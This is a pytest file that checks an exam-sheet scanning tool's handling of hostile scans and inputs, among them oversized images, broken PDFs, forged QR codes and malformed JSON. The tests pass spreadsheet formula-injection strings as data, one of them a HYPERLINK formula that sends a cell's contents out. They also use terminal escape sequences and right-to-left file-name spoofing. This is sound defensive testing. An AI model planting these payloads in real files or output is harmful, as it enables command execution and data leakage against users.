"""Hostile scans (issue 22, causes 4-6): a scan run trusts nothing a scanner or a student hands
it. One bad page never ends the batch; a QR code can only point at this test, never define
one; answer-sheet.json cannot make the run allocate without bound; file names and QR text
never reach a CSV cell or the terminal raw. Each test here fails on the main of 1c78387."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import struct
import zlib
from functools import cache
from pathlib import Path

import cv2
import numpy as np
import pytest

from pipeline.build.render import sheet

from . import scan_synth as synth
from .conftest import CASES, run_cli

TEST = "all-formats"
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _keys(folder: Path, name: str = TEST, series: int = 2) -> Path:
    """answer-key.json and answer-sheet.json as a build writes them (without its PDFs)."""
    from pipeline.build.targets import Target, key_document, sheet_document
    from pipeline.model import load

    data = json.loads((CASES / "valid" / f"{name}.json").read_text(encoding="utf-8"))
    target = Target(name, name, name, load(data), "", series=series)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "answer-key.json").write_bytes(key_document(target))
    (folder / "answer-sheet.json").write_bytes(sheet_document(target, "a4"))
    return folder / "answer-key.json"


@cache
def _data() -> dict:
    return json.loads((CASES / "valid" / f"{TEST}.json").read_text(encoding="utf-8"))


@cache
def _blank(series: str = "A", dpi: int = 200) -> np.ndarray:
    return synth.printed(_data(), series, dpi=dpi)


def _filled(
    answers: str, *, roll: str = "1234567", series: str = "A", dpi: int = 200, booklet: str = ""
) -> np.ndarray:
    """A sheet with these answers, the roll number, booklet serial and series in black pen."""
    g = sheet.geometry(len(_data()["questions"]))
    image = _blank(series, dpi).copy()
    px = dpi / 25.4

    def dab(b: sheet.Bubble) -> None:
        rx = getattr(b, "rx", None) or b.r  # circles (r) or ovals (rx, ry)
        ry = getattr(b, "ry", None) or b.r
        centre = (int(round(b.x * px)), int(round(b.y * px)))
        axes = (int(rx * px * 0.92), int(ry * px * 0.92))
        cv2.ellipse(image, centre, axes, 0, 0, 360, 25, -1, cv2.LINE_AA)

    for row, letter in zip(g.answers, answers, strict=False):
        for b in row:
            if b.value == letter:
                dab(b)
    for column, digit in zip(g.roll, roll, strict=False):
        dab(column[int(digit)])
    for column, digit in zip(g.booklet, booklet, strict=False):
        dab(column[int(digit)])
    dab(next(b for b in g.series if b.value == series))
    return image


def _scan(tmp_path: Path, *scans: Path, key: Path | None = None):
    key = key or _keys(tmp_path / "build" / TEST)
    out = tmp_path / "out"
    result = run_cli("scan", *map(str, scans), "--key", str(key), "--out", str(out), "--jobs", "1")
    assert "internal error" not in result.stderr, result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    return result, out


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _cells(path: Path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for c in row]  # fmt: skip


def _good(tmp_path: Path, name: str = "good.png", answers: str = "ABCDAB") -> Path:
    path = tmp_path / name
    path.write_bytes(synth.png(_filled(answers)))
    return path


def _huge_png(path: Path, side: int) -> None:
    """A real, valid white PNG of side x side pixels (grey), compressed to a few hundred KB."""
    row = b"\x00" + b"\xff" * side
    squeeze = zlib.compressobj(9)
    body = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b""))  # fmt: skip


def test_an_empty_file_goes_to_review_and_the_other_pages_are_read(tmp_path):
    empty = tmp_path / "empty.png"
    empty.write_bytes(b"")
    result, out = _scan(tmp_path, _good(tmp_path), empty)
    assert result.returncode == 1
    assert "empty.png: unreadable: an empty file (0 bytes)" in result.stderr
    assert [(r["file"], r["roll"]) for r in _rows(out / "responses.csv")] == [
        (str(tmp_path / "good.png"), "1234567")
    ]
    review = _rows(out / "review.csv")
    assert any(r["file"].endswith("empty.png") and "0 bytes" in r["reason"] for r in review)


def test_a_25000_pixel_square_png_is_refused_from_its_header(tmp_path):
    huge = tmp_path / "huge.png"
    _huge_png(huge, 25_000)
    result, out = _scan(tmp_path, huge, _good(tmp_path))
    assert result.returncode == 1
    assert "huge.png: unreadable: 25,000 x 25,000 pixels is larger than any scan" in result.stderr
    assert [r["roll"] for r in _rows(out / "responses.csv")] == ["1234567"]


def test_a_64_megapixel_phone_photo_is_read(tmp_path):
    """A real phone photo of a sheet: 9,248 x 6,936 pixels, decoded reduced and read."""
    page = _filled("DCBADC", roll="7654321", dpi=300)
    desk = np.full((6936, 9248), 150, np.uint8)  # the sheet lies on a grey desk, upright
    factor = 6500 / page.shape[0]
    sheet_px = cv2.resize(page, (int(page.shape[1] * factor), 6500), interpolation=cv2.INTER_CUBIC)
    y, x = 200, (9248 - sheet_px.shape[1]) // 2
    desk[y : y + sheet_px.shape[0], x : x + sheet_px.shape[1]] = sheet_px
    photo = tmp_path / "photo.jpg"
    photo.write_bytes(cv2.imencode(".jpg", desk, [cv2.IMWRITE_JPEG_QUALITY, 90])[1].tobytes())
    result, out = _scan(tmp_path, photo)
    rows = _rows(out / "responses.csv")
    assert [(r["roll"], r["series"]) for r in rows] == [("7654321", "A")], result.stderr
    assert [rows[0][str(n)] for n in range(1, 7)] == list("DCBADC")


def _broken_second_page(images: list[np.ndarray]) -> bytes:
    """A scanner's PDF of the images whose second page object is garbage (same length)."""
    data = synth.pdf_of(images, 200)
    found = list(re.finditer(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/Type\s*/Page\b(?!s)", data, re.DOTALL))  # fmt: skip
    start = found[1].start()
    end = data.index(b"endobj", start)
    head = data[start : data.index(b"obj", start) + 3]
    filler = b" (" + b"x" * (end - start - len(head) - 4) + b") "
    broken = data[:start] + head + filler + data[end:]
    assert len(broken) == len(data)
    return broken


def test_a_pdf_with_a_broken_page_object_loses_that_page_only(tmp_path):
    stack = tmp_path / "stack.pdf"
    stack.write_bytes(
        _broken_second_page(
            [
                _filled("AAAAAA", roll="1000001"),
                _filled("BBBBBB", roll="1000002"),
                _filled("CCCCCC", roll="1000003"),
            ]  # fmt: skip
        )
    )
    result, out = _scan(tmp_path, stack)
    assert result.returncode == 1
    assert "stack.pdf page 2: unreadable: the PDF's page 2 is broken" in result.stderr
    rows = _rows(out / "responses.csv")
    assert [(r["page"], r["roll"], r["1"]) for r in rows] == [("1", "1000001", "A"), ("3", "1000003", "C")]  # fmt: skip
    assert [r["page"] for r in _rows(out / "review.csv") if "broken" in r["reason"]] == ["2"]


def test_a_10000_page_pdf_is_refused_before_any_page_is_drawn(tmp_path):
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument.new()
    for _ in range(10_000):
        document.new_page(595, 842)
    many = tmp_path / "many.pdf"
    buffer = io.BytesIO()
    document.save(buffer)
    many.write_bytes(buffer.getvalue())
    result, out = _scan(tmp_path, many, _good(tmp_path))
    assert result.returncode == 1
    assert "many.pdf page 1: unreadable: 10,000 pages; at most 2,000 are read in one run" in result.stderr  # fmt: skip
    assert [r["roll"] for r in _rows(out / "responses.csv")] == ["1234567"]
    assert "read 1 of 2 pages" in result.stdout


def _with_qr(image: np.ndarray, text: str, dpi: int = 200) -> np.ndarray:
    """The sheet with its QR code replaced by one saying `text`."""
    import segno

    g = sheet.geometry(len(_data()["questions"]))
    assert g.qr is not None
    px = dpi / 25.4
    side = int(g.qr.size * px)
    code = segno.make(text, error="m", micro=False)
    matrix = np.array(code.matrix, dtype=np.uint8)
    modules = np.pad(matrix, 4)  # a quiet zone of four modules
    picture = np.where(modules > 0, 0, 255).astype(np.uint8)
    picture = cv2.resize(picture, (side, side), interpolation=cv2.INTER_NEAREST)
    out = image.copy()
    x0, y0 = int((g.qr.x - g.qr.size / 2) * px), int((g.qr.y - g.qr.size / 2) * px)
    out[y0 : y0 + side, x0 : x0 + side] = picture
    return out


def _forged(**fields: str) -> str:
    """A QR payload of this test with some fields replaced and a checksum that matches."""
    g = sheet.geometry(len(_data()["questions"]))
    real = sheet.payload(TEST, "A", g).split("|")
    names = ["kind", "version", "test", "series", "questions", "layout"]
    body = "|".join(fields.get(n, real[i]) for i, n in enumerate(names))
    return f"{body}|{hashlib.sha256(body.encode()).hexdigest()[:8]}"


@pytest.mark.parametrize(
    ("fields", "name"),
    [
        ({"questions": "abc"}, "questions-abc"),
        ({"questions": "999999999"}, "questions-huge"),
        ({"series": '=HYPERLINK("http://x.example/?"&A1)'}, "series-formula"),
        ({"test": "\x1b]0;pwned\x07\u202egnp.exe"}, "test-escapes"),
    ],
)
def test_a_forged_qr_code_cannot_define_the_sheet(tmp_path, fields, name):
    """Its checksum matches (anyone can compute it), but it is not a payload this test prints:
    the page is refused with a reason, nothing from it reaches a cell or the terminal."""
    image = _with_qr(_filled("ABCDAB", series="A"), _forged(**fields))
    scan = tmp_path / f"{name}.png"
    scan.write_bytes(synth.png(image))
    result, out = _scan(tmp_path, scan, _good(tmp_path))
    assert result.returncode == 1
    assert f"{name}.png: " in result.stderr
    assert not RAW.search(result.stderr + result.stdout)
    assert len(_rows(out / "responses.csv")) == 1  # only the good sheet
    cells = _cells(out / "responses.csv") + _cells(out / "review.csv")
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") or RAW.search(c)]
    assert [r["file"] for r in _rows(out / "review.csv") if r["reason"]][0].endswith(f"{name}.png")


@pytest.mark.parametrize(
    "stem",
    ["=cmd|' -C calc'!A0", "@SUM(1+1)*cmd", "\x1b[2J\x1b[31mred", "evil\u202egnp.exe"],
)
def test_a_hostile_file_name_never_reaches_a_cell_or_the_terminal_raw(tmp_path, stem):
    bad = tmp_path / f"{stem}.png"
    bad.write_bytes(b"not an image at all")
    good = _good(tmp_path, f"{stem}-2.png")
    result, out = _scan(tmp_path, bad, good)
    assert result.returncode == 1
    assert not RAW.search(result.stderr + result.stdout)
    cells = _cells(out / "responses.csv") + _cells(out / "review.csv")
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") or RAW.search(c)]
    html = (out / "review.html").read_text(encoding="utf-8")
    assert not RAW.search(html)


@pytest.mark.parametrize(
    "geometry",
    [
        {"questions": "abc"},
        {"questions": 10**9, "answers": []},
        {"answers": "abc"},
        {"roll": 7},
        "not an object",
    ],
)
def test_answer_sheet_json_defines_nothing(tmp_path, geometry):
    """The geometry comes from the key; answer-sheet.json only names the paper, and a file
    that disagrees is a usage error (exit 2), never an internal error or a huge allocation."""
    key = _keys(tmp_path / "build" / TEST)
    table = json.loads((key.parent / "answer-sheet.json").read_text(encoding="utf-8"))
    if isinstance(geometry, dict):
        table["geometry"].update(geometry)
    else:
        table["geometry"] = geometry
    (key.parent / "answer-sheet.json").write_text(json.dumps(table), encoding="utf-8")
    result, out = _scan(tmp_path, _good(tmp_path), key=key)
    if result.returncode == 0:  # fields the reader never uses: the key's 6 questions are read
        header = next(csv.reader(io.StringIO((out / "responses.csv").read_text(encoding="utf-8"))))
        assert header[-1] == "6"
    else:
        assert result.returncode == 2, result.stderr
        assert "answer-sheet.json" in result.stderr


def test_review_holds_this_runs_crops_only(tmp_path):
    """A second run over a folder clears the first run's crops (and nothing else)."""
    key = _keys(tmp_path / "build" / TEST)
    out = tmp_path / "out"
    (out / "review").mkdir(parents=True)
    stale = out / "review" / "old-scan-p1-1-question-3.png"
    stale.write_bytes(b"an earlier run's crop")
    mine = out / "review" / "notes.txt"
    mine.write_text("the teacher's own file", encoding="utf-8")
    scan = tmp_path / "unclear.png"
    scan.write_bytes(synth.png(_filled("ABCDAB", roll="")))  # no roll number: a doubt
    result = run_cli("scan", str(scan), "--key", str(key), "--out", str(out), "--jobs", "1")
    assert not stale.exists() and mine.exists(), result.stderr
    review = _rows(out / "review.csv")
    assert review and all((out / r["crop"]).is_file() for r in review if r["crop"])
    assert {p.name for p in (out / "review").glob("*.png")} == {
        Path(r["crop"]).name for r in review if r["crop"]
    }


def _dies_on_page_2(task):
    """A page read that kills its own process, as a crash in a native library would."""
    import os

    from pipeline.classroom.scan.command import Outcome

    path, number, _ = task
    if number == 2:
        os._exit(9)
    return Outcome(f"{path} page {number}", path, number)


def _hangs_on_page_3(task):
    """A page read that never ends, as a pathological PDF page might."""
    import time

    from pipeline.classroom.scan.command import Outcome

    path, number, _ = task
    while number == 3:
        time.sleep(1)
    return Outcome(f"{path} page {number}", path, number)


@pytest.mark.parametrize("workers", [1, 2])
def test_a_page_that_kills_its_worker_process_loses_that_page_only(workers):
    from pipeline.classroom.scan.command import read_all

    tasks = [("stack.pdf", n, None) for n in range(1, 5)]
    outcomes = read_all(tasks, workers, work=_dies_on_page_2)
    assert [(o.number, o.problem) for o in outcomes] == [
        (1, None),
        (2, "unreadable: reading this page stopped its worker process"),
        (3, None),
        (4, None),
    ]


def test_a_page_that_never_finishes_is_given_up_and_the_others_are_read():
    from pipeline.classroom.scan.command import read_all

    tasks = [("stack.pdf", n, None) for n in range(1, 6)]
    outcomes = read_all(tasks, 2, work=_hangs_on_page_3, timeout=2.0)
    assert [(o.number, o.problem) for o in outcomes] == [
        (1, None),
        (2, None),
        (3, "unreadable: reading this page took longer than 2 s"),
        (4, None),
        (5, None),
    ]


def test_a_run_stops_taking_files_at_max_pages(tmp_path, monkeypatch):
    """Files past the run's page budget are refused whole (counted, never drawn)."""
    import pypdfium2 as pdfium

    from pipeline.classroom.scan import command, pages

    def pdf(name: str, count: int) -> Path:
        document = pdfium.PdfDocument.new()
        for _ in range(count):
            document.new_page(595, 842)
        buffer = io.BytesIO()
        document.save(buffer)
        (tmp_path / name).write_bytes(buffer.getvalue())
        return tmp_path / name

    monkeypatch.setattr(pages, "MAX_PAGES", 5)
    files = [pdf("one.pdf", 2), pdf("two.pdf", 2), pdf("three.pdf", 2), _good(tmp_path)]
    tasks, refused = command._tasks(files, None)
    assert [(Path(t[0]).name, t[1]) for t in tasks] == [
        ("one.pdf", 1), ("one.pdf", 2), ("two.pdf", 1), ("two.pdf", 2), ("good.png", 1)
    ]  # fmt: skip
    assert [(Path(o.file).name, o.problem) for o in refused] == [
        (
            "three.pdf",
            "unreadable: this file would take the run past 5 pages; scan it in another run",
        )
    ]


def test_a_review_folder_that_is_a_link_is_refused_before_reading(tmp_path):
    """review/ planted as a link to another folder: nothing is read, written or deleted."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "0001-q1.png").write_bytes(b"someone else's file, named like a crop")
    out = tmp_path / "out"
    out.mkdir()
    (out / "review").symlink_to(elsewhere)
    scan = tmp_path / "unclear.png"
    scan.write_bytes(synth.png(_filled("ABCDAB", roll="")))
    result, _ = _scan(tmp_path, scan)
    assert result.returncode == 2
    assert "review: is not a folder of crops" in result.stderr
    assert [p.name for p in elsewhere.iterdir()] == ["0001-q1.png"]
    assert not (out / "responses.csv").exists()
